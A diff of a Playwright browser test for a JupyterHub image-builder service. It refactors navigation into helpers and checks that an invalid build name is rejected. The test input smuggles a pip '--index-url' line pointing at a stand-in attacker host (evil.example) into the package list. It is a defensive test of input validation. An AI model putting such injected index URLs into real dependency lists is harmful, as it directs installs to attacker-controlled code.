@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from ..browser import browser_page, log_in
+from ..browser import browser_page, fill_package_list_build, log_in, open_service
 from ..builder.svc import builder_hub
 from ..util import ARTIFACTS
 
@@ -25,17 +25,9 @@ def test_admin_builds_an_image_from_the_services_menu(builder) -> None:
     with browser_page(str(ARTIFACTS / "FAILED-builder-panel.png")) as page:
         log_in(page, builder.hub.url, "admin", "jupyterhub-ov-admin-demo-password")
         page.wait_for_url(re.compile(r".*/hub/spawn.*"))
-        page.goto(f"{builder.hub.url}/hub/home")
-        page.get_by_role("button", name="Services").click()
-        page.get_by_role("link", name="image-builder").click()
-        page.wait_for_url(re.compile(r".*/services/image-builder/$"))
-
-        page.get_by_role("button", name="New build").click()
-        page.check("#type-PackageList")
-        page.fill("#f-name", "BAD NAME")
-        page.fill("#f-display", "Tiny")
-        page.fill("#f-description", "A tiny environment")
-        page.fill("#f-packages", "ovtiny==1.0\n--index-url https://evil.example/simple")
+        open_service(page, builder.hub.url, "image-builder")
+        hostile = "ovtiny==1.0\n--index-url https://evil.example/simple"
+        fill_package_list_build(page, "BAD NAME", "Tiny", "A tiny environment", hostile)
         page.click("#submit-build")
         page.wait_for_selector("#f-name.is-invalid")  # the API's problems, next to the fields
         assert "must be lowercase" in page.inner_text("#f-name ~ .invalid-feedback")
